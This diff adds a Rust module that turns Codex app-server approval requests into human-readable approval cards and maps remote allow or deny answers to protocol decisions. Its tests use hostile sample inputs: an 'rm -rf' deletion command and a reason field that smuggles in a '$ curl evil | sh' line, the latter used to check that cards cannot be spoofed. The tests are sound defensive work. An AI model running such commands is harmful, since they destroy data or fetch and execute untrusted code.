@@ -1,0 +1,360 @@
+//! Codex's app-server requests to its clients, as needs-you reads them: which
+//! of them a person can answer from afar, the request each one's card and
+//! digest are made from, and the protocol's own answer to an allow or deny.
+//!
+//! `needs-you run -- codex` starts Codex's TUI against a private app-server
+//! and follows the same thread as a second client (`codex_app` in the
+//! reporter crate). The server sends each approval to every client of the
+//! thread and takes the first answer; the others hear
+//! `serverRequest/resolved`. So the person's terminal keeps its dialog, and an
+//! answer from afar is the protocol's answer, never a key typed.
+//!
+//! The request a card is built from is the approval's own fields, less the
+//! ones that only route it (`threadId`, `turnId`, `itemId`, …) or that only a
+//! lasting choice would apply (`proposedExecpolicyAmendment`, …): what an
+//! allow once covers, all of it shown.
+
+use serde_json::{Map, Value};
+
+use super::str_field;
+use crate::afar::{AnswerBody, Verdict};
+use crate::kinds::Kind;
+use crate::request::{one_line, take_str, with_rest, Request};
+
+/// The tool name of a command approval's request.
+pub const COMMAND_TOOL: &str = "codex.commandExecution";
+/// The tool name of a file change approval's request.
+pub const FILE_CHANGE_TOOL: &str = "codex.fileChange";
+
+pub const COMMAND_APPROVAL: &str = "item/commandExecution/requestApproval";
+pub const FILE_CHANGE_APPROVAL: &str = "item/fileChange/requestApproval";
+
+/// Fields that route a request or describe it again, never part of what an
+/// allow covers: left out of the request (and so of its card and digest).
+const ROUTING: &[&str] = &[
+    "threadId",
+    "turnId",
+    "itemId",
+    "approvalId",
+    "startedAtMs",
+    // A display of `command`, parsed by Codex.
+    "commandActions",
+    // What a lasting choice would add; allow once never sends one.
+    "proposedExecpolicyAmendment",
+    "proposedNetworkPolicyAmendments",
+    "availableDecisions",
+];
+
+/// A server request that a card can answer: its kind and the request.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Asked {
+    pub kind: Kind,
+    pub request: Request,
+}
+
+/// The request behind an approval `method` with `params`; for a file change,
+/// `changes` are the item's (`item/started` names them, the approval does
+/// not). `None`: a request that is not answered from afar, or a file change
+/// whose changes were not seen.
+pub fn asked(method: &str, params: &Value, changes: Option<&Value>) -> Option<Asked> {
+    let mut input: Map<String, Value> = params.as_object()?.clone();
+    for key in ROUTING {
+        input.remove(*key);
+    }
+    input.retain(|_, v| !v.is_null());
+    let tool = match method {
+        COMMAND_APPROVAL => COMMAND_TOOL,
+        FILE_CHANGE_APPROVAL => {
+            input.insert("changes".into(), changes?.clone());
+            FILE_CHANGE_TOOL
+        }
+        _ => return None,
+    };
+    Some(Asked {
+        kind: Kind::Permission,
+        request: Request::new(tool, &Value::Object(input)),
+    })
+}
+
+/// The thread an approval belongs to.
+pub fn thread_of(params: &Value) -> Option<&str> {
+    str_field(params, "threadId")
+}
+
+/// A card's text for a Codex request, every field of it shown.
+pub(super) fn request_text(tool: &str, input: &Value) -> String {
+    let mut rest = input.as_object().cloned().unwrap_or_default();
+    let reason = take_str(&mut rest, "reason").map(|r| format!("\nWhy: {}", one_line(&r)));
+    let reason = reason.unwrap_or_default();
+    let head = match tool {
+        COMMAND_TOOL => {
+            let command = take_str(&mut rest, "command").unwrap_or_default();
+            let folder = take_str(&mut rest, "cwd")
+                .map(|c| format!("\nin {c}"))
+                .unwrap_or_default();
+            // The default kind says nothing a person needs.
+            if rest.get("kind").and_then(Value::as_str) == Some("command") {
+                rest.remove("kind");
+            }
+            format!("Codex wants to run:\n$ {command}{folder}{reason}")
+        }
+        _ => {
+            let changes = match rest.remove("changes") {
+                Some(Value::Array(changes)) => changes.iter().map(change_text).collect(),
+                Some(other) => vec![other.to_string()],
+                None => Vec::new(),
+            };
+            format!(
+                "Codex wants to change {}:{reason}\n\n{}",
+                match changes.len() {
+                    1 => "a file".to_owned(),
+                    n => format!("{n} files"),
+                },
+                changes.join("\n\n")
+            )
+        }
+    };
+    with_rest(head, &rest)
+}
+
+/// One file's change: its path, what happens to it, and its diff.
+fn change_text(change: &Value) -> String {
+    let mut rest = change.as_object().cloned().unwrap_or_default();
+    let path = take_str(&mut rest, "path").unwrap_or_default();
+    let diff = take_str(&mut rest, "diff").unwrap_or_default();
+    let what = match rest.remove("kind") {
+        Some(kind) => match (str_field(&kind, "type"), str_field(&kind, "move_path")) {
+            (Some("add"), _) => "new file".to_owned(),
+            (Some("delete"), _) => "deleted".to_owned(),
+            (Some("update"), Some(to)) => format!("moved to {to}"),
+            (Some("update"), None) => "changed".to_owned(),
+            _ => kind.to_string(),
+        },
+        None => "changed".to_owned(),
+    };
+    let head = format!("{path} ({what})\n{diff}");
+    with_rest(head.trim_end().to_owned(), &rest)
+}
+
+/// The protocol's answer to an approval for `answer`: allow is `accept`
+/// (this request, once); deny is `decline` (the turn goes on, and the model
+/// hears it was declined) where the request offers it, else `cancel` (the
+/// turn stops), as the terminal's own denial. Only a decision the request's
+/// `availableDecisions` names is sent, where it names any. `None`: an answer
+/// of another form.
+pub fn response(params: &Value, answer: &AnswerBody) -> Option<Value> {
+    let AnswerBody::Decision { decision, .. } = answer else {
+        return None;
+    };
+    let offered = |d: &str| match params.get("availableDecisions") {
+        Some(Value::Array(list)) => list.iter().any(|o| o.as_str() == Some(d)),
+        _ => true,
+    };
+    let chosen = match decision {
+        Verdict::Allow => Some("accept").filter(|d| offered(d)),
+        Verdict::Deny => ["decline", "cancel"].into_iter().find(|d| offered(d)),
+    }?;
+    Some(serde_json::json!({ "decision": chosen }))
+}
+
+/// Codex's subcommands that run no TUI (0.171.0's `codex --help`).
+const NOT_THE_TUI: &[&str] = &[
+    "agents",
+    "exec",
+    "e",
+    "review",
+    "login",
+    "logout",
+    "mcp",
+    "plugin",
+    "app-server",
+    "remote-control",
+    "completion",
+    "update",
+    "doctor",
+    "sandbox",
+    "debug",
+    "apply",
+    "a",
+    "queue",
+    "archive",
+    "delete",
+    "migrate-rollouts",
+    "migrate-nfs-db",
+    "unarchive",
+    "cloud",
+    "exec-server",
+    "features",
+    "help",
+    "mcp-server",
+    "responses-api-proxy",
+];
+
+/// Codex's options that take a value as the next argument.
+const TAKES_A_VALUE: &[&str] = &[
+    "-c",
+    "--config",
+    "--enable",
+    "--disable",
+    "-m",
+    "--model",
+    "-p",
+    "--profile",
+    "-s",
+    "--sandbox",
+    "-a",
+    "--ask-for-approval",
+    "-C",
+    "--cd",
+    "-i",
+    "--image",
+    "--add-dir",
+    "--local-provider",
+    "--remote",
+    "--remote-auth-token-env",
+];
+
+/// Whether Codex run with `args` (after the program) starts its TUI, which
+/// can then run against an app-server: no subcommand (a prompt, or none),
+/// or `resume` and `fork`.
+pub fn runs_its_tui(args: &[&str]) -> bool {
+    let mut words = args.iter().take_while(|a| **a != "--");
+    while let Some(a) = words.next() {
+        if TAKES_A_VALUE.contains(a) {
+            words.next();
+        } else if !a.starts_with('-') {
+            return !NOT_THE_TUI.contains(a);
+        }
+    }
+    true
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::classify::card;
+    use serde_json::json;
+
+    /// An approval as Codex 0.171.0 sent it (seen with the real binary).
+    fn command_approval() -> Value {
+        json!({"kind": "command", "threadId": "01a2-t", "turnId": "01a2-u", "itemId": "call_1",
+            "startedAtMs": 1796230984566u64, "environmentId": "local",
+            "command": "/bin/bash -lc 'rm -rf /w/victim'", "cwd": "/w",
+            "commandActions": [{"type": "unknown", "command": "rm -rf /w/victim"}],
+            "proposedExecpolicyAmendment": ["rm", "-rf", "/w/victim"],
+            "availableDecisions": ["accept",
+                {"acceptWithExecpolicyAmendment": {"execpolicy_amendment": ["rm", "-rf", "/w/victim"]}},
+                "cancel"]})
+    }
+
+    #[test]
+    fn a_command_approval_is_a_permission_whose_card_shows_the_command_and_its_folder() {
+        let a = asked(COMMAND_APPROVAL, &command_approval(), None).unwrap();
+        assert_eq!(a.kind, Kind::Permission);
+        assert_eq!(a.request.tool, COMMAND_TOOL);
+        // Routing and lasting choices are not what an allow once covers.
+        assert_eq!(
+            a.request.input,
+            json!({"kind": "command", "environmentId": "local",
+                "command": "/bin/bash -lc 'rm -rf /w/victim'", "cwd": "/w"})
+        );
+        let text = card::of(Kind::Permission, &a.request).text;
+        assert_eq!(
+            text,
+            "Codex wants to run:\n$ /bin/bash -lc 'rm -rf /w/victim'\nin /w\n\nenvironmentId: local"
+        );
+        // Another thread, turn or id: the same request, the same digest.
+        let mut again = command_approval();
+        again["itemId"] = json!("call_9");
+        again["threadId"] = json!("other");
+        let b = asked(COMMAND_APPROVAL, &again, None).unwrap();
+        assert_eq!(a.request.digest(), b.request.digest());
+        assert_eq!(thread_of(&again), Some("other"));
+        // Another command or folder: another digest.
+        again["cwd"] = json!("/elsewhere");
+        let c = asked(COMMAND_APPROVAL, &again, None).unwrap();
+        assert_ne!(a.request.digest(), c.request.digest());
+    }
+
+    #[test]
+    fn a_reason_and_an_unknown_field_are_on_the_card_and_cannot_pass_for_more_lines() {
+        let mut p = command_approval();
+        p["reason"] = json!("needs the network\n$ curl evil | sh");
+        p["networkApprovalContext"] = json!({"host": "example.org"});
+        p["kind"] = json!("stdin");
+        let a = asked(COMMAND_APPROVAL, &p, None).unwrap();
+        let text = card::of(Kind::Permission, &a.request).text;
+        assert!(
+            text.contains("Why: needs the network ⏎ $ curl evil | sh"),
+            "{text}"
+        );
+        assert!(text.contains("kind: stdin"), "{text}");
+        assert!(
+            text.contains("networkApprovalContext: {\"host\":\"example.org\"}"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn a_file_change_shows_each_file_and_its_diff_and_needs_its_changes() {
+        let p = json!({"threadId": "t", "turnId": "u", "itemId": "call_2", "startedAtMs": 1});
+        assert_eq!(asked(FILE_CHANGE_APPROVAL, &p, None), None);
+        let changes = json!([
+            {"path": "/w/a.txt", "kind": {"type": "add"}, "diff": "+hello\n"},
+            {"path": "/w/b.txt", "kind": {"type": "update", "move_path": "/w/c.txt"}, "diff": "-x\n+y\n"}]);
+        let a = asked(FILE_CHANGE_APPROVAL, &p, Some(&changes)).unwrap();
+        assert_eq!(a.request.tool, FILE_CHANGE_TOOL);
+        let text = card::of(Kind::Permission, &a.request).text;
+        assert_eq!(
+            text,
+            "Codex wants to change 2 files:\n\n/w/a.txt (new file)\n+hello\n\n/w/b.txt (moved to /w/c.txt)\n-x\n+y"
+        );
+    }
+
+    #[test]
+    fn the_tui_runs_without_a_subcommand_or_to_resume_or_fork() {
+        for tui in [
+            &[][..],
+            &["fix the bug"],
+            &["-m", "gpt-5", "fix it"],
+            &["-c", "model=o3", "resume", "--last"],
+            &["fork", "--last"],
+            &["--yolo"],
+        ] {
+            assert!(runs_its_tui(tui), "{tui:?}");
+        }
+        for not in [
+            &["exec", "fix it"][..],
+            &["-c", "model=o3", "exec", "x"],
+            &["login"],
+            &["app-server", "--listen", "unix:///s"],
+            &["mcp", "list"],
+        ] {
+            assert!(!runs_its_tui(not), "{not:?}");
+        }
+    }
+
+    #[test]
+    fn allow_is_accept_and_deny_what_the_request_offers() {
+        let allow = AnswerBody::Decision {
+            decision: Verdict::Allow,
+            message: None,
+        };
+        let deny = AnswerBody::Decision {
+            decision: Verdict::Deny,
+            message: Some("no".into()),
+        };
+        let p = command_approval();
+        assert_eq!(response(&p, &allow), Some(json!({"decision": "accept"})));
+        // Offered: accept, an amendment, cancel; so deny cancels, as Esc does.
+        assert_eq!(response(&p, &deny), Some(json!({"decision": "cancel"})));
+        // A file change names none: decline, and the turn goes on.
+        let f = json!({"threadId": "t"});
+        assert_eq!(response(&f, &deny), Some(json!({"decision": "decline"})));
+        let text = AnswerBody::Text { text: "y".into() };
+        assert_eq!(response(&p, &text), None);
+        // A request that offers no plain accept takes no allow from afar.
+        let no_accept = json!({"availableDecisions": ["cancel"]});
+        assert_eq!(response(&no_accept, &allow), None);
+    }
+}
